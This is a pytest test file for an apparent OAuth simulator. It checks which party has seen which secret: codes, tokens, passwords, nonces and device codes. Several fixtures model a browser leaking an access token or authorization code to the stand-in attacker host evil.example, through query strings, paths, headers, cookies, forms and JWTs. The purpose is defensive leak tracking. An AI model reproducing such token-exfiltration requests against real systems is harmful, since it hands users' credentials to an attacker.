"""Who has seen which secret: found by name, followed by value, credited to whom it really reached."""

from __future__ import annotations

import base64
import json
from dataclasses import replace
from urllib.parse import quote, urlencode

import pytest
from knowledge.traces import (
    APP_COOKIE,
    AUTH_COOKIE,
    CHALLENGE,
    CLIENT_SECRET,
    CODE,
    HTML,
    PASSWORD,
    REFRESH_1,
    REFRESH_2,
    STATE,
    VERIFIER,
    Story,
    access_token,
    authorization_code,
    jwt,
)

from mockserver.message import Request
from oauthsim.knowledge import Knowledge, knowledge, secrets
from oauthsim.trace import Event

KNOWN = knowledge(authorization_code())
LONG = "access_0123456789abcdef"


def leak(story: Story, *, url: str = "https://evil.example/", **more: object) -> None:
    """Have the browser bring something to Mallory."""
    story.ask("resource_owner", "mallory", url, **more)  # type: ignore[arg-type]


def after_a_token() -> Story:
    """Return a story in which the client has been given one access token."""
    story = Story()
    asked = story.ask(
        "client", "authorization_server", "https://auth.example/token", method="POST", channel="back"
    )
    story.answer(asked, 200, json_body={"access_token": LONG})
    return story


def known_after(**leaked: object) -> Knowledge:
    story = after_a_token()
    leak(story, **leaked)
    return knowledge(story.trace())


def test_every_secret_of_a_run_is_found_once_and_named() -> None:
    assert {secret.value: secret.name for secret in secrets(authorization_code())} == {
        STATE: "state",
        CHALLENGE: "code_challenge",
        APP_COOKIE: "session cookie of app.example",
        PASSWORD: "password",
        AUTH_COOKIE: "session cookie of auth.example",
        CODE: "code",
        VERIFIER: "code_verifier",
        CLIENT_SECRET: "client secret",
        access_token(1): "access token 1",
        access_token(2): "access token 2",
        REFRESH_1: "refresh token 1",
        REFRESH_2: "refresh token 2",
    }


@pytest.mark.parametrize(
    ("kind", "parties"),
    [
        ("password", {"resource_owner", "authorization_server"}),
        ("client_secret", {"client", "authorization_server"}),
        ("code_verifier", {"client", "authorization_server"}),
        ("refresh_token", {"client", "authorization_server"}),
        ("access_token", {"client", "authorization_server", "calendar"}),
        ("code", {"resource_owner", "client", "authorization_server"}),
        ("state", {"resource_owner", "client", "authorization_server"}),
    ],
)
def test_a_secret_reaches_exactly_the_parties_that_it_is_for(kind: str, parties: set[str]) -> None:
    assert set(KNOWN.who_knows(kind)) == parties


def test_the_table_says_since_which_message_and_where() -> None:
    rows = {(row.name, row.party): (row.message, row.place) for row in KNOWN.table()}
    assert rows["code", "authorization_server"] == (8, "redirect")
    assert rows["code", "resource_owner"] == (8, "redirect")
    assert rows["code", "client"] == (9, "URL query")
    assert rows["password", "authorization_server"] == (5, "form body")
    assert rows["client secret", "authorization_server"] == (10, "Authorization header")
    assert rows["access token 1", "calendar"] == (13, "Authorization header")
    assert ("access token 1", "resource_owner") not in rows


def test_one_access_token_is_asked_for_by_its_name() -> None:
    assert "calendar" in KNOWN.who_knows("access token 2")
    assert [sighting.message for sighting in KNOWN.where(CODE)][:2] == [8, 8]


def test_what_a_party_knows_can_be_asked_at_each_step() -> None:
    assert "code" not in [secret.kind for secret in KNOWN.until(8).seen_by("client")]
    assert "code" in [secret.kind for secret in KNOWN.until(9).seen_by("client")]
    assert KNOWN.until(0).secrets == ()


@pytest.mark.parametrize(
    "place",
    [
        {"url": f"https://evil.example/?stolen={LONG}"},
        {"url": f"https://evil.example/x/{LONG}/y"},
        {"url": f"https://evil.example/?next={quote(quote(f'/a?t={LONG}', safe=''), safe='')}"},
        {"headers": [("Referer", f"https://app.example/?access_token={LONG}")]},
        {"headers": [("Cookie", f"jar={LONG}")]},
        {"headers": [("Authorization", f"Bearer {LONG}")]},
        {"headers": [("Authorization", "Basic " + base64.b64encode(f"id:{LONG}".encode()).decode())]},
        {"headers": [("X-Debug", f"token={LONG}.")]},
        {"form": {"note": f"see {LONG}, please"}, "method": "POST"},
        {"headers": [("Authorization", f"Bearer {jwt({'nested': [LONG]})}")]},
    ],
    ids=["query", "path", "encoded twice", "referer", "cookie", "bearer", "basic", "header", "form", "jwt"],
)
def test_a_value_is_followed_wherever_it_stands(place: dict[str, object]) -> None:
    assert "mallory" in known_after(**place).who_knows("access_token")


def test_half_a_token_is_not_the_token() -> None:
    assert "mallory" not in known_after(url=f"https://evil.example/?t={LONG[:-1]}").who_knows("access_token")
    assert "mallory" not in known_after(url=f"https://evil.example/?t={LONG}0").who_knows("access_token")


@pytest.mark.parametrize(
    "secret", ["p&ss <w>rd \"quoted\" 'and' ünïcode", "base64+/padded==", "back\\slash-secret"]
)
def test_a_secret_with_special_characters_is_followed_through_every_encoding(secret: str) -> None:
    story = Story()
    story.ask(
        "resource_owner",
        "authorization_server",
        "https://auth.example/login",
        method="POST",
        form={"password": secret},
    )
    leak(story, url="https://evil.example/?" + urlencode({"p": secret}))
    asked = story.ask("client", "calendar", "https://calendar.example/", channel="back")
    story.answer(asked, 200, json_body={"note": f"it is {secret}"})
    assert set(knowledge(story.trace()).who_knows(secret)) == {
        "resource_owner",
        "authorization_server",
        "mallory",
        "calendar",
        "client",
    }


def test_a_short_value_is_followed_by_its_name_only() -> None:
    story = Story()
    asked = story.ask("resource_owner", "client", "https://app.example/callback?code=c1&state=a")
    story.answer(asked, 200, HTML, body="<p>a c1 a</p>")
    assert knowledge(story.trace()).who_knows("state") == ("resource_owner", "client")
    assert {one.place for one in knowledge(story.trace()).where("a")} == {"URL query"}


def test_the_sender_is_credited_even_when_the_message_is_lost_and_the_receiver_is_not() -> None:
    trace = authorization_code()
    lost = replace(trace.message(8), delivery="lost")
    known = knowledge(replace(trace, messages=(*trace.messages[:7], lost)))
    assert known.who_knows("code") == ("authorization_server",)


def test_a_request_to_a_host_outside_the_world_tells_nobody() -> None:
    story = after_a_token()
    leak(story, url=f"https://login.example.com/?t={LONG}")
    story.messages[-1] = replace(story.messages[-1], receiver="login.example.com", delivery="refused")
    assert set(knowledge(story.trace()).who_knows("access_token")) == {
        "authorization_server",
        "client",
        "resource_owner",
    }


def test_what_an_edit_put_into_a_message_was_not_known_to_its_sender() -> None:
    trace = authorization_code()
    asked = trace.message(9)
    url = asked.url.replace(STATE, "forged-by-an-edit")
    edited = asked.carrying(replace(asked.request, url=url), "state set to forged-by-an-edit")
    known = knowledge(replace(trace, messages=(*trace.messages[:8], edited)))
    assert known.who_knows("forged-by-an-edit") == ("client",)
    assert known.who_knows(STATE) == ("client", "resource_owner", "authorization_server")


def test_a_page_that_is_shown_leaves_its_address_in_the_history_and_a_redirect_does_not() -> None:
    story = Story()
    callback = f"https://app.example/callback?code={CODE}&state={STATE}"
    asked = story.ask("resource_owner", "client", callback)
    shown, moved = Story(), Story()
    for other in (shown, moved):
        other.messages = [asked]
    shown.answer(asked, 200, HTML, body="<p>Connected.</p>")
    moved.answer(asked, 303, ("Location", "/"))
    kept = [one for one in knowledge(shown.trace()).where(CODE) if one.place == "history"]
    assert [(one.party, one.message) for one in kept] == [("resource_owner", 2)]
    assert "history" not in {one.place for one in knowledge(moved.trace()).where(CODE)}


def test_an_image_is_no_page_and_leaves_nothing_in_the_history() -> None:
    story = Story()
    asked = story.ask(
        "resource_owner", "mallory", f"https://evil.example/i.png?code={CODE}", headers=[("Accept", "*/*")]
    )
    story.answer(asked, 200)
    assert "history" not in {one.place for one in knowledge(story.trace()).where(CODE)}


def test_a_token_in_a_fragment_reaches_the_browser_and_its_history_but_no_server() -> None:
    story = Story()
    asked = story.ask("resource_owner", "authorization_server", "https://auth.example/authorize")
    story.answer(asked, 302, ("Location", f"https://app.example/callback#access_token={LONG}&state=s"))
    story.ask("resource_owner", "client", "https://app.example/callback")
    known = knowledge(story.trace())
    assert set(known.who_knows("access_token")) == {"authorization_server", "resource_owner"}
    assert {one.place for one in known.where(LONG) if one.party == "resource_owner"} == {
        "fragment",
        "history",
    }


def test_a_nonce_is_followed_into_the_id_token() -> None:
    story = Story()
    url = "https://auth.example/authorize?response_type=code&client_id=c&nonce=nonce_0123456789"
    story.ask("resource_owner", "authorization_server", url)
    asked = story.ask(
        "client", "authorization_server", "https://auth.example/token", method="POST", channel="back"
    )
    story.answer(asked, 200, json_body={"id_token": jwt({"nonce": "nonce_0123456789"})})
    places = {(one.party, one.place) for one in knowledge(story.trace()).where("nonce")}
    assert ("client", "token claim") in places


def test_the_kind_of_a_token_that_is_only_asked_about_comes_from_where_it_was_issued() -> None:
    story = Story()
    form = {"token": "refresh_0123456789", "token_type_hint": "access_token"}
    story.ask(
        "client",
        "authorization_server",
        "https://auth.example/revoke",
        method="POST",
        form=form,
        channel="back",
    )
    assert [secret.kind for secret in secrets(story.trace())] == ["access_token"]
    asked = story.ask(
        "client", "authorization_server", "https://auth.example/token", method="POST", channel="back"
    )
    story.answer(asked, 200, json_body={"refresh_token": "refresh_0123456789"})
    assert [(secret.kind, secret.first) for secret in secrets(story.trace())] == [("refresh_token", 1)]


def test_a_user_code_is_the_same_however_it_is_typed() -> None:
    story = Story()
    asked = story.ask(
        "client",
        "authorization_server",
        "https://auth.example/device_authorization",
        method="POST",
        channel="back",
    )
    story.answer(asked, 200, json_body={"device_code": "device_0123456789", "user_code": "WDJB-MJHT"})
    story.ask("resource_owner", "authorization_server", "https://auth.example/device?user_code=wdjbmjht")
    known = knowledge(story.trace())
    assert [secret.kind for secret in known.secrets] == ["device_code", "user_code"]
    assert "resource_owner" in known.who_knows("user_code")
    assert "resource_owner" not in known.who_knows("device_code")


def test_the_data_of_an_api_is_not_taken_for_a_code_or_a_state() -> None:
    story = Story()
    bearer = [("Authorization", f"Bearer {LONG}")]
    asked = story.ask(
        "client", "calendar", "https://calendar.example/?code=0123456&state=Bavaria", headers=bearer
    )
    story.answer(asked, 200, json_body={"code": "0123456", "state": "Bavaria"})
    assert [secret.kind for secret in secrets(story.trace())] == ["access_token"]


def test_a_leak_that_the_story_tells_is_knowledge_too() -> None:
    story = after_a_token()
    story.events.append(Event(2, story.at, "mallory", "leak", f"the client's log is published: token {LONG}"))
    story.events.append(Event(2, story.at, "calendar", "step", f"a title that happens to hold {LONG}"))
    known = knowledge(story.trace())
    assert "mallory" in known.who_knows("access_token")
    assert "calendar" not in known.who_knows("access_token")


def test_the_dictionary_can_be_written_as_json_and_says_who_since_when() -> None:
    found = json.loads(json.dumps(KNOWN.as_dict()))
    code = next(secret for secret in found["secrets"] if secret["kind"] == "code")
    assert code["value"] == CODE
    assert code["messages"] == [8, 9, 10]
    assert {
        "party": "client",
        "since": 9,
        "place": "URL query",
        "places": ["URL query", "form body"],
    } in code["seen_by"]


def test_the_table_reads_as_text() -> None:
    lines = KNOWN.text().splitlines()
    assert lines[0].split() == ["client", "resource_owner", "authorization_server", "calendar"]
    password = next(line for line in lines if line.startswith("password"))
    assert password.split("  ")[0] == "password"
    assert "5: form body" in password


def test_following_secrets_costs_no_more_for_the_same_text_when_there_are_more_of_them() -> None:
    from oauthsim.knowledge.secret import Secret, Wanted

    many = [Secret("code", f"code_{number:06}", "code", 1) for number in range(5000)]
    wanted = Wanted(many)
    assert [secret.value for secret in wanted.found_in("x=code_004711&y=code_9")] == ["code_004711"]


def test_a_request_alone_can_be_surveyed() -> None:
    story = Story()
    story.ask("client", "calendar", "https://calendar.example/")
    story.messages[0] = story.messages[0].carrying(Request("GET", "", (), b"\xff\xfe"))
    assert knowledge(story.trace()).sightings == ()
